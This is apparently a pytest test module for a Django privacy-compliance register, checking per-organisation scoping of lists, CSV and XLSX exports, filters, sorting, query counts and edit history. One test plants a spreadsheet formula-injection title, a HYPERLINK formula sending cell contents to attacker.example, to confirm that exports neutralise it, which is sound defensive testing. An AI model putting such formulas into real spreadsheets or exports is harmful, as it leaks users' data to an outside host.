"""Reusable view tests: scoping of lists, edits with history, filters, sorting, exports, query caps."""

import csv
import io

import openpyxl
import pytest
from django.conf import settings
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from compliance.choices import GapKind, GapStatus
from compliance.models import Gap
from hpregister.models import Organisation
from risks.models import Risk

pytestmark = pytest.mark.django_db

LISTS = [
    "hpregister:organisation_list",
    "compliance:obligation_list",
    "compliance:gap_list",
    "compliance:subprocessor_list",
    "compliance:assessment_list",
    "compliance:subprocessornotice_list",
    "incidents:incident_list",
    "risks:risk_list",
    "incidents:breachcount_list",
    "compliance:adequacydecision_list",
    "compliance:processoragreement_list",
    "internalcontrol:processingactivity_list",
    "internalcontrol:dpia_list",
    "internalcontrol:archiveseries_list",
    "webhooks:webhookendpoint_list",
]


def rows(response):
    return [row.record for row in response.context["table"].page.object_list]


def export_rows(client, url_name, fmt="csv", **params):
    response = client.get(reverse(url_name), {"_export": fmt, **params})
    assert response.status_code == 200
    if fmt == "csv":
        return list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig")), delimiter=";"))
    sheet = openpyxl.load_workbook(io.BytesIO(response.getvalue())).active
    return [list(r) for r in sheet.iter_rows(values_only=True)]


@pytest.mark.parametrize(
    ("persona", "expected"),
    [("alice", 39), ("root", 39), ("bob", 1), ("carol", 1), ("mona", 2), ("nina", 0)],
)
def test_organisation_list_shows_only_the_users_organisations(persona, expected, login, django_user_model):
    client = login(django_user_model.objects.get(username=persona))
    response = client.get(reverse("hpregister:organisation_list"), {"per_page": 100})
    assert len(rows(response)) == expected


def test_manager_sees_the_risks_of_their_organisations_only(login, mona, bob, org):
    Risk.objects.create(title="St. Olav risk", organisation=org("St. Olavs hospital HF"))
    Risk.objects.create(title="Melhus risk", organisation=org("Melhus"))
    titles = {r.title for r in rows(login(mona).get(reverse("risks:risk_list")))}
    assert "St. Olav risk" in titles and "Lange ventetider" in titles and "Melhus risk" not in titles
    titles = {r.title for r in rows(login(bob).get(reverse("risks:risk_list")))}
    assert titles == {"St. Olav risk"}


def test_gaps_of_helseplattformen_as_are_hidden_from_a_municipality(login, carol, org):
    Gap.objects.create(code="MEL-1", kind=GapKind.FINDING, title="Melhus finding", organisation=org("Melhus"))
    codes = {g.code for g in rows(login(carol).get(reverse("compliance:gap_list")))}
    assert codes == {"MEL-1"}


@pytest.mark.parametrize("url_name", LISTS)
def test_user_without_organisation_sees_empty_lists_and_exports(url_name, login, nina):
    client = login(nina)
    assert rows(client.get(reverse(url_name))) == []
    assert len(export_rows(client, url_name)) == 1  # header only


@pytest.mark.parametrize("url_name", LISTS)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_every_list_exports_all_filtered_rows_not_just_the_page(url_name, fmt, login, alice):
    client = login(alice)
    total = client.get(reverse(url_name)).context["table"].paginator.count
    exported = export_rows(client, url_name, fmt, per_page=2)
    assert len(exported) == total + 1
    assert all(isinstance(h, str) and h for h in exported[0])


def test_export_respects_scoping_and_filters(login, bob, alice, org):
    Gap.objects.create(
        code="SO-1", kind=GapKind.FINDING, title="St. Olav finding", organisation=org("St. Olavs hospital HF")
    )
    assert [r[0] for r in export_rows(login(bob), "compliance:gap_list")[1:]] == ["SO-1"]
    exported = export_rows(login(alice), "compliance:gap_list", kind=GapKind.HELSENORGE)
    assert [r[0] for r in exported[1:]] == ["HN-1", "HN-2", "HN-3"]


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"q": "arkivverket"}, {"ARK-1", "ARK-2", "ARK-3", "ARK-4", "ARK-5"}),
        ({"status": GapStatus.CLOSED}, {"F-8"}),
        ({"kind": GapKind.HELSENORGE, "status": GapStatus.NOT_FULFILLED}, {"HN-2"}),
    ],
)
def test_gap_filters_narrow_the_list(params, expected, login, alice):
    response = login(alice).get(reverse("compliance:gap_list"), {**params, "per_page": 100})
    assert {g.code for g in rows(response)} == expected


def test_subprocessor_filters_by_country_and_basis(login, bob):
    response = login(bob).get(reverse("compliance:subprocessor_list"), {"country": "US", "transfer_basis": "scc"})
    assert len(rows(response)) == 5


def test_organisation_filter_offers_only_visible_organisations(login, bob):
    form = login(bob).get(reverse("risks:risk_list")).context["filter"].form
    assert list(form.fields["organisation"].queryset.values_list("name", flat=True)) == ["St. Olavs hospital HF"]


@pytest.mark.parametrize("url_name", LISTS)
def test_every_orderable_column_sorts_both_ways(url_name, login, alice):
    client = login(alice)
    table = client.get(reverse(url_name)).context["table"]
    for column in table.columns:
        if column.orderable:
            for order in (column.name, f"-{column.name}"):
                assert client.get(reverse(url_name), {"sort": order}).status_code == 200, order


def test_sorting_orders_rows(login, alice):
    client = login(alice)
    names = [
        o.name for o in rows(client.get(reverse("hpregister:organisation_list"), {"sort": "-shares", "per_page": 3}))
    ]
    assert names == ["Helse Midt-Norge RHF", "Trondheim", "Ålesund"]


@pytest.mark.parametrize("url_name", LISTS)
def test_list_query_count_does_not_grow_with_page_size(url_name, login, alice, org):
    for n in range(60):
        Gap.objects.create(code=f"X-{n}", kind=GapKind.FINDING, title=f"x{n}", organisation=org("Melhus"))
        Risk.objects.create(title=f"risk {n}", organisation=org("Melhus"))
    client = login(alice)
    client.get(reverse(url_name))  # warm caches (session, content types)
    counts = []
    for per_page in (1, 100):
        with CaptureQueriesContext(connection) as ctx:
            assert client.get(reverse(url_name), {"per_page": per_page}).status_code == 200
        counts.append(len(ctx))
    assert counts[0] == counts[1], counts
    assert counts[1] <= 17  # session, user, memberships, count, page, filter choices, saved filters: not the rows


def test_page_size_is_capped(login, alice, settings):
    settings.LIST_MAX_PAGE_SIZE = 5
    response = login(alice).get(reverse("hpregister:organisation_list"), {"per_page": 100000})
    assert len(rows(response)) == 5


def test_privacy_officer_edits_a_gap_and_the_change_is_in_the_history(login, alice):
    gap = Gap.objects.get(code="ARK-2")
    client = login(alice)
    form = client.get(reverse("compliance:gap_edit", args=[gap.pk])).context["form"]
    data = {k: v for k, v in form.initial.items() if v is not None}
    data.update(status=GapStatus.IN_PROGRESS, obligations=[], organisation=gap.organisation_id)
    response = client.post(reverse("compliance:gap_edit", args=[gap.pk]), data)
    assert response.status_code == 302, response.context["form"].errors if response.context else None
    gap.refresh_from_db()
    assert gap.status == GapStatus.IN_PROGRESS
    latest = gap.history.latest()
    assert latest.history_user == alice
    assert gap.history.count() == 2
    page = client.get(gap.get_absolute_url())
    entry = page.context["history"][0]
    assert entry["user"] == alice
    assert [c["field"] for c in entry["changes"]] == ["status"]
    assert "In progress" in str(entry["changes"][0]["new"]) or "Under arbeid" in str(entry["changes"][0]["new"])


def test_bad_input_is_refused_next_to_the_field_and_nothing_is_saved(login, alice):
    gap = Gap.objects.get(code="ARK-3")
    client = login(alice)
    response = client.post(
        reverse("compliance:gap_edit", args=[gap.pk]),
        {
            "code": "ARK-3",
            "kind": GapKind.ARCHIVE,
            "title": "",
            "organisation": gap.organisation_id,
            "status": GapStatus.OPEN,
            "reported": "March 2025",
        },
    )
    assert response.status_code == 200
    errors = response.context["form"].errors
    assert set(errors) == {"title", "reported"}
    html = response.content.decode()
    assert 'id="id_title_error"' in html and 'aria-invalid="true"' in html
    gap.refresh_from_db()
    assert gap.title != "" and gap.history.count() == 1


def test_privacy_officer_cannot_record_for_another_organisation(login, bob, org):
    response = login(bob).post(
        reverse("compliance:gap_add"),
        {"code": "X-1", "kind": GapKind.FINDING, "title": "Sneaky", "organisation": org("Melhus").pk, "status": "open"},
    )
    assert response.status_code == 200
    assert "organisation" in response.context["form"].errors
    assert not Gap.objects.filter(code="X-1").exists()


def test_privacy_officer_adds_a_gap_for_their_organisation(login, bob, org):
    response = login(bob).post(
        reverse("compliance:gap_add"),
        {
            "code": "SO-9",
            "kind": GapKind.FINDING,
            "title": "Log review missing",
            "organisation": org("St. Olavs hospital HF").pk,
            "status": "open",
        },
    )
    assert response.status_code == 302
    gap = Gap.objects.get(code="SO-9")
    assert gap.history.get().history_user == bob


def test_detail_page_shows_history_and_no_edit_button_for_a_manager(login, mona):
    risk = Risk.objects.get(title="Lange ventetider")
    response = login(mona).get(risk.get_absolute_url())
    assert response.context["can_edit"] is False
    assert response.context["history"][0]["reason"] == "Lastet fra referansedata"  # the reader's language
    assert reverse("risks:risk_edit", args=[risk.pk]) not in response.content.decode()


def test_top10_derives_previous_rank_from_previous_period(login, mona):
    entries = login(mona).get(reverse("risks:top10")).context["entries"]
    assert [(e.rank, e.previous_rank) for e in entries] == [
        (1, 1),
        (2, 2),
        (3, 3),
        (4, 4),
        (5, 5),
        (6, 6),
        (7, 7),
        (8, 9),
        (9, None),
        (10, None),
    ]


def test_top10_is_empty_for_a_user_outside_the_regional_authority(login, carol):
    assert login(carol).get(reverse("risks:top10")).context["period"] is None


def test_organisations_are_never_deleted_through_the_app(login, alice):
    melhus = Organisation.objects.get(name="Melhus")
    assert login(alice).post(f"/organisations/{melhus.pk}/delete/").status_code == 404
    assert Organisation.objects.filter(pk=melhus.pk).exists()


def _tbody_cells(html):
    """[(tr, [td, ...]), ...] of a table's body: each row's opening tag and its cells, whitespace between tags
    ignored."""
    import re

    body = re.search(r"<tbody[^>]*>(.*?)</tbody>", html, re.S).group(1)
    body = re.sub(r">\s+<", "><", body.strip()).replace("<td >", "<td>")
    rows = re.findall(r"(<tr[^>]*>)(.*?)</tr>", body, re.S)
    return [(opening, re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)) for opening, row in rows]


@pytest.mark.parametrize("url_name", LISTS)
@pytest.mark.parametrize("language", ["nb", "en"])
def test_rows_drawn_in_python_match_django_tables2s_own_template(url_name, language, login, alice):
    """BaseTable.tbody_html replaces the template loop per cell: the cells must be exactly django-tables2's."""
    import time_machine

    from tests.factories import assessed, make_incident, measure, notify, oslo

    with time_machine.travel(oslo(2026, 11, 22, 12, 0), tick=False):
        notified = assessed(make_incident(organisations=("St. Olavs hospital HF", "Melhus"), title="<b>escaped</b>"))
        notify(notified, oslo(2026, 11, 21, 9, 0))
        measure(notified)
        assessed(make_incident())  # its clock runs: "time left"
        client = login(alice)
        client.cookies["django_language"] = language
        response = client.get(reverse(url_name), {"per_page": 200})
        table = response.context["table"]
        page = response.content.decode()
        ours = _tbody_cells(page[page.index("data-list") :])  # the list's own table
        assert ours and any(any(cell.strip() for cell in row) for _tr, row in ours)
        table.template_name = "django_tables2/table.html"
        assert ours == _tbody_cells(table.as_html(response.wsgi_request))


def internal_control_rows(user):
    """One record of each internal-control list, with the columns that compute their value."""
    from compliance.models import ProcessorAgreement
    from hpregister.models import Organisation
    from internalcontrol.models import ArchiveSeries, Dpia, ProcessingActivity

    stolav = Organisation.objects.get(name="St. Olavs hospital HF")
    ProcessingActivity.objects.create(
        organisation=stolav,
        name="Pasientbehandling",
        purposes="Helsehjelp",
        data_subjects="Pasienter",
        data_categories="Helse",
        retention="10 år",
        security_measures="Tilgangsstyring",
    )
    for title, risk in (("Talegjenkjenning", "high"), ("Kunstig intelligens", "low")):
        Dpia.objects.create(
            organisation=stolav, title=title, owner=user, residual_risk=risk, review_due=dt_date(2027, 1, 1)
        )
    ArchiveSeries.objects.create(
        organisation=stolav,
        name="Papirjournaler",
        service_level="specialist",
        regime="helsearkiv",
        medium="paper",
        disposition="norsk_helsearkiv",
        trigger="patient_death",
        trigger_on=dt_date(2010, 1, 1),
    )
    ProcessorAgreement.objects.create(organisation=stolav, processor="Hemit HF", breach_notice_hours=12)
    ProcessorAgreement.objects.create(organisation=stolav, processor="Sykehuspartner")
    from webhooks.models import WebhookEndpoint

    for name in ("ServiceNow", "TopDesk"):
        WebhookEndpoint.objects.create(
            organisation=stolav, name=name, url=f"https://{name.lower()}.example/hook", events=["incident.registered"]
        )


def dt_date(*args):
    import datetime as dt

    return dt.date(*args)


@pytest.mark.parametrize("url_name", LISTS)
def test_streamed_export_has_django_tables2s_own_export_values(url_name, login, alice):
    """The export's fast extractors must give what django-tables2's ``as_values`` gives, cell for cell, except
    that an empty cell stays empty where django-tables2 writes its on-screen placeholder (a dash in a date
    column would break sorting and filtering in a spreadsheet)."""
    import datetime as dt

    import time_machine

    from compliance.models import SubProcessorNotice
    from tests.factories import assessed, make_incident, measure, notify, oslo

    with time_machine.travel(oslo(2026, 11, 22, 12, 0), tick=False):
        SubProcessorNotice.objects.create(change="added", name="Cloud AB", received_on=dt.date(2026, 11, 2))
        notified = assessed(make_incident(organisations=("St. Olavs hospital HF", "Melhus"), title='Quote " and ;'))
        notify(notified, oslo(2026, 11, 21, 9, 0))
        measure(notified)
        assessed(make_incident())
        internal_control_rows(alice)
        client = login(alice)
        client.cookies["django_language"] = "nb"
        exported = export_rows(client, url_name)
        table = client.get(reverse(url_name), {"per_page": 1000}).context["table"]
        expected = io.StringIO()
        placeholder = str(table.default)
        csv.writer(expected).writerows(
            ["" if cell == placeholder else cell for cell in row] for row in table.as_values()
        )
        assert len(exported) > 1
        assert exported == list(csv.reader(io.StringIO(expected.getvalue())))


@pytest.mark.parametrize("ordering", [("-aware_at", "-pk"), ("title", "pk"), ("category", "-pk")])
def test_late_row_paginator_gives_the_pages_offset_gives(ordering):
    from django.core.paginator import Paginator

    from hpregister.tables import LateRowPaginator
    from incidents.models import Incident
    from tests.factories import make_incident, oslo

    for n in range(7):
        make_incident(title=f"Breach {7 - n}", aware_at=oslo(2026, 11, 20 - n % 3, 10), category="snooping")
    queryset = Incident.objects.prefetch_related("organisations").order_by(*ordering)
    for per_page, orphans in ((1, 0), (3, 0), (3, 1)):
        plain, late = Paginator(queryset, per_page, orphans), LateRowPaginator(queryset, per_page, orphans)
        assert late.num_pages == plain.num_pages > 1
        for number in plain.page_range:
            assert [i.pk for i in late.page(number)] == [i.pk for i in plain.page(number)]
        assert late.page(1)[0].organisations.all()[0].name == "St. Olavs hospital HF"  # prefetches kept


def test_late_row_paginator_keeps_annotations_and_their_order(org):
    from django.core.paginator import Paginator

    from hpregister.tables import LateRowPaginator
    from risks.models import RiskMeasure

    for n in range(4):
        risk = Risk.objects.create(title=f"Risk {n}", organisation=org("Melhus"))
        for _ in range(n):
            RiskMeasure.objects.create(risk=risk, description="Do it")
    queryset = Risk.objects.with_measure_counts().order_by("-open_measures", "pk")
    plain, late = Paginator(queryset, 2), LateRowPaginator(queryset, 2)
    for number in plain.page_range:
        assert [(r.pk, r.open_measures) for r in late.page(number)] == [
            (r.pk, r.open_measures) for r in plain.page(number)
        ]


@pytest.mark.parametrize("url", ["incidents:incident_list", "incidents:incident_add", "risks:risk_list"])
def test_model_selects_read_their_options_without_a_server_side_cursor(url, login, alice):
    """ModelChoiceIterator reads through queryset.iterator(): a server-side cursor on PostgreSQL (three round
    trips) for each select of each form. The register's forms read them in one plain query."""
    from unittest import mock

    from django.db import connection

    from tests.factories import make_incident

    make_incident()
    with mock.patch.object(connection, "chunked_cursor", side_effect=AssertionError("a server-side cursor")):
        response = login(alice).get(reverse(url))
    assert response.status_code == 200
    assert "<option" in response.content.decode()


def test_a_filter_selects_null_choice_stays_with_the_options_read_in_one_query():
    import django_filters

    from hpregister.forms import harden_fields
    from hpregister.models import Organisation

    class Filter(django_filters.FilterSet):
        organisation = django_filters.ModelChoiceFilter(queryset=Organisation.objects.all(), null_label="Ingen")

        class Meta:
            model = Organisation
            fields = ["organisation"]

    Organisation.objects.create(name="Ålen kommune")
    form = Filter().form
    harden_fields(form)
    labels = [label for _value, label in form.fields["organisation"].widget.choices]
    assert labels[:2] == ["---------", "Ingen"]
    assert "Ålen kommune" in labels


def test_filter_forms_draw_their_selects_in_python(login, alice):
    """A select's options are drawn by hpregister.formrender, not by a template per option."""
    from unittest import mock

    from django.template.backends.django import Template

    with mock.patch.object(Template, "render", autospec=True, side_effect=Template.render) as rendered:
        response = login(alice).get(reverse("compliance:subprocessor_list"), {"country": "US"})
    names = {call.args[0].template.name for call in rendered.call_args_list}
    assert '<option value="US" selected>' in response.content.decode()
    assert not {name for name in names if name.startswith("django/forms/widgets/")}, names


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_exported_cells_never_become_formulas(trigger, login, alice):
    import csv
    import io

    import openpyxl

    from tests.factories import make_incident

    title = f'{trigger}HYPERLINK("http://attacker.example/?x="&A1,"Click")'
    make_incident(title=title)
    client = login(alice)
    url = reverse("incidents:incident_list")
    body = b"".join(client.get(url, {"q": "HYPERLINK", "_export": "csv"}).streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(body), delimiter=";") for cell in row]
    assert "'" + title in cells and title not in cells

    response = client.get(url, {"q": "HYPERLINK", "_export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [
        cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value and "HYPERLINK" in str(cell.value)
    ]
    # XML reads a carriage return back as a line feed; the cell is still the neutralised text.
    assert cells and all(cell.data_type == "s" and cell.value == "'" + title.replace("\r", "\n") for cell in cells)


def test_a_yes_no_column_exports_as_words_in_the_users_language(login, alice):
    """A BooleanColumn made the export fail (its value() wants the record), and would have written "True"."""
    response = login(alice).get(reverse("incidents:rootcause_list"), {"_export": "csv"})
    lines = b"".join(response.streaming_content).decode("utf-8-sig").splitlines()
    header = lines[0].split(";")
    in_use = header.index("I bruk")
    assert {line.split(";")[in_use] for line in lines[1:]} == {"Ja"}


def test_exports_are_made_for_norwegian_excel(login, alice):
    """Semicolons (a comma-separated file lands in one column in Norwegian Excel), or commas on request; an
    XLSX with a named sheet, a frozen and filtered header row, widths, real date cells and no empty column."""
    import datetime as dt

    import openpyxl

    from incidents.models import RootCause
    from tests.factories import assessed, make_incident, notify, oslo

    incident = assessed(
        make_incident(
            title="Eksportert; med semikolon", aware_at=oslo(2026, 7, 1, 10), root_cause=RootCause.objects.first()
        )
    )
    notify(incident, oslo(2026, 7, 2, 9))
    assessed(make_incident(title="Venter", aware_at=oslo(2026, 7, 3, 10)))
    client = login(alice)
    url = reverse("incidents:incident_list")
    semicolons = b"".join(client.get(url, {"_export": "csv"}).streaming_content).decode("utf-8-sig")
    header = semicolons.splitlines()[0]
    assert header.count(";") >= 8 and "," not in header
    assert '"Eksportert; med semikolon"' in semicolons
    commas = b"".join(client.get(url, {"_export": "csv", "delimiter": "comma"}).streaming_content).decode("utf-8-sig")
    assert commas.splitlines()[0].count(",") >= 8

    response = client.get(url, {"_export": "xlsx"})
    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = book.active
    assert sheet.title == "Avvik"
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref.startswith("A1:")
    rows = list(sheet.iter_rows(values_only=True))
    assert sheet.auto_filter.ref.endswith(str(len(rows)))
    header = rows[0]
    row = next(r for r in rows if r[1] == "Eksportert; med semikolon")
    aware = row[header.index("Fikk kjennskap")]
    assert aware == dt.datetime(2026, 7, 1, 10, 0)  # a date cell, in Oslo time
    cell = next(c for c in sheet.iter_rows(min_row=2) if c[1].value == "Eksportert; med semikolon")[
        header.index("Fikk kjennskap")
    ]
    assert cell.is_date and "yy" in cell.number_format
    for index, name in enumerate(header):
        assert any(r[index] not in (None, "") for r in rows[1:]), f"empty column {name}"
        letter = openpyxl.utils.get_column_letter(index + 1)
        assert sheet.column_dimensions[letter].width >= 8


def test_the_full_record_of_an_incident_holds_every_field_and_its_children(login, bob, carol):
    import openpyxl

    from tests.factories import assessed, make_incident, measure, notify, oslo

    incident = assessed(make_incident(title="Hele journalen", aware_at=oslo(2026, 7, 1, 10)))
    notify(incident, oslo(2026, 7, 2, 9), case_reference="26/00042")
    measure(incident, description="Samtale med den ansatte")
    url = incident.get_absolute_url()
    assert "?_export=xlsx" in login(bob).get(url).content.decode()
    response = login(bob).get(url, {"_export": "xlsx"})
    assert response.status_code == 200 and incident.title not in response["Content-Disposition"]
    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    record = dict(book.worksheets[0].iter_rows(values_only=True))
    labels = {str(f.verbose_name).capitalize() for f in incident._meta.concrete_fields if f.editable}
    assert labels <= set(record)  # every field a person can enter, not only the list's columns
    assert record["Tittel"] == "Hele journalen" and record["Fikk kjennskap"] == "01.07.2026 10:00"
    sheets = {sheet.title: list(sheet.iter_rows(values_only=True)) for sheet in book.worksheets[1:]}
    assert any("26/00042" in row for row in sheets["Meldinger"])
    assert any("Samtale med den ansatte" in row for row in sheets["Tiltak"])
    csv_body = b"".join(login(bob).get(url, {"_export": "csv"}).streaming_content).decode("utf-8-sig")
    assert "Hele journalen" in csv_body and "Samtale med den ansatte" in csv_body
    assert login(carol).get(url, {"_export": "xlsx"}).status_code == 404  # scoped like the page


def _without_layout(html):
    """Markup without the template's line breaks and indentation (the drawn markup has none), and without
    the rows (drawn by tbody_html in both, and compared with django-tables2's own above)."""
    import re

    html = re.sub(r"<tbody>.*</tbody>", "<tbody></tbody>", html, flags=re.S)
    return re.sub(r"\s*\n\s*", "", html)


# Every page that draws a table through BaseTable: the lists above and the rest (logs, the measures overview).
TABLES = [
    *LISTS,
    "security_events",
    "risks:acceptablelevel_list",
    "risks:reportingperiod_list",
    "incidents:rootcause_list",
    "logcontrol:logreview_list",
    "logcontrol:logcontrolplan_list",
    "logcontrol:staffcase_list",
    "logcontrol:accesslogrequest_list",
    "measure_list",  # paged by Django's own Paginator: no cursors
]


@pytest.mark.parametrize("url_name", TABLES)
@pytest.mark.parametrize("language", ["nb", "en"])
def test_header_and_page_links_drawn_in_python_match_the_template(url_name, language, login, alice):
    """BaseTable.thead_html and pagination_html replace the header and page-link loops of the list template
    (kept as tests/templates/table_reference.html): the same markup, sorted both ways, on the first, a middle
    and the last page, by number and by cursor."""
    from django.template import engines

    from tests.factories import make_incident

    reference = engines["django"].from_string((settings.BASE_DIR / "tests/templates/table_reference.html").read_text())
    for n in range(4):
        make_incident(title=f"Brudd {n}")
    client = login(alice)
    client.cookies["django_language"] = language
    first = client.get(reverse(url_name)).context["table"]
    sortable = [column.name for column in first.columns if column.orderable]
    queries = [{}, {"per_page": 1}, {"per_page": 1, "page": 2}, {"per_page": 2, "page": 3, "q": "a"}]
    queries += [{"per_page": 1, "sort": name} for name in sortable[:2]]
    queries += [{"per_page": 1, "page": 2, "sort": f"-{name}"} for name in sortable[:2]]
    compared = 0
    for query in queries:
        response = client.get(reverse(url_name), query)
        table = response.context["table"]
        request = response.wsgi_request
        drawn = _without_layout(table.as_html(request))
        assert drawn == _without_layout(reference.render({"table": table}, request)), query
        compared += bool(table.paginator.num_pages > 1) and 'rel="next"' in drawn
        if 'rel="next"' in drawn:  # then the page its Next link leads to (by cursor where it has one)
            href = drawn.split('rel="next"')[0].rsplit('href="', 1)[1].split('"')[0].replace("&amp;", "&")
            response = client.get(reverse(url_name) + href)
            table = response.context["table"]
            assert _without_layout(table.as_html(response.wsgi_request)) == _without_layout(
                reference.render({"table": table}, response.wsgi_request)
            ), href
    if url_name in ("incidents:incident_list", "risks:risk_list", "compliance:obligation_list", "measure_list"):
        assert compared  # lists with rows enough for pages compared their page links
